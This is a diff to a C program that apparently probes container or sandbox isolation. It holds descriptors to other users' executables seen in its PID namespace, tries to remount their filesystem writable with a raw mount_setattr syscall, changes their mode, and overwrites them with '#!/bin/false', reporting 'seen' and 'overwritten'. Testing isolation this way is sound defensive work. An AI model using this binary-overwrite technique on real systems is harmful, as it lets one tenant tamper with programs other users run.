@@ -1,5 +1,5 @@
-// Lies in wait for programs of others that pass through its PID namespace, holds on to each, and tries to write to it when nobody
-// runs it any more. Says "seen" for the first one that it has held, and "overwritten" when a write went through.
+// Lies in wait for programs of others that pass through its PID namespace, holds on to each, tries to make the mount writable that it
+// is run from, to change its mode, and to write to it when nobody runs it any more. Says "seen" for the first one that it has held, and "overwritten" when a write went through.
 #define _GNU_SOURCE
 #include <ctype.h>
 #include <dirent.h>
@@ -7,8 +7,14 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <stdint.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
+
+// mount_setattr(2); not every C library knows it.
+static const long MOUNT_SETATTR = 442;
+static const struct { uint64_t set, clear, propagation, user_namespace; } WRITABLE = {.clear = 1};
 
 static struct stat mine;
 
@@ -50,6 +56,8 @@ int main(void) {
 		for (int i = 0; i < count; i++) {
 			char path[64];
 			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+			syscall(MOUNT_SETATTR, held[i], "", AT_EMPTY_PATH, &WRITABLE, sizeof WRITABLE);
+			chmod(path, known[i].st_mode | S_ISVTX);
 			int descriptor = open(path, O_WRONLY | O_CLOEXEC);
 			if (descriptor >= 0 && write(descriptor, "#!/bin/false\n", 13) == 13) {
 				// The image's own programs are its to write.
